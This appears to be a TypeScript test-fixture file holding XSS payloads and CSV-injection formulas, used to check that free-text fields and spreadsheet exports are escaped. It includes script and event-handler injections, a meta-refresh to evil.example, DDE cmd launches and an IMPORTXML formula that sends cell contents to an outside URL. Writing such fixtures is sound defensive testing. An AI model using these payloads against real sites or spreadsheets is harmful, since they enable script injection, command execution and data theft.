/** Hostile text for every free-text field: it must come out as the same text, never as markup. */
export const XSS_CORPUS = [
  "<script>alert('xss-1')</script>",
  '<img src=x onerror="alert(\'xss-2\')">',
  '"><svg onload=alert(3)>',
  "javascript:alert('xss-4')",
  '<a href="javascript:alert(5)">click me</a>',
  "</p></section></main><script>alert(6)</script>",
  "' onmouseover='alert(7)' data-x='",
  '<iframe srcdoc="<script>alert(8)</script>"></iframe>',
  "<style>body{display:none}</style>",
  "&lt;script&gt;alert(9)&lt;/script&gt; &amp; &#60;b&#62;",
  "<!-- a comment --><b>bold</b><br/>",
  "<div <p>broken <<markup>> </div",
  "{email} {shop} ${1+1}",
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
];

/** The whole corpus as one multi-line text, for fields that keep line breaks. */
export const XSS_TEXT = XSS_CORPUS.join("\n");

/**
 * Text a spreadsheet would read as a formula (OWASP's CSV-injection list: a cell that begins with
 * = + - @, a tab or a carriage return), and near misses that must stay as they are. Every exported
 * cell that begins like a formula must open as text: `'` in front, the rest unchanged.
 */
export const CSV_INJECTION_CORPUS = [
  '=HYPERLINK("http://x","x")',
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1)",
  "\t=1",
  "\r=1",
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
  "-",
  "+1 555 0100",
  "@",
  '"=1+1"',
  "a,=1+1\r\n=2+2",
];

/** Cells that look like formulas but are plain numbers: exported as they are, so sums still work. */
export const CSV_PLAIN_NUMBERS = ["-12.50", "12.50", "-3", "0"];
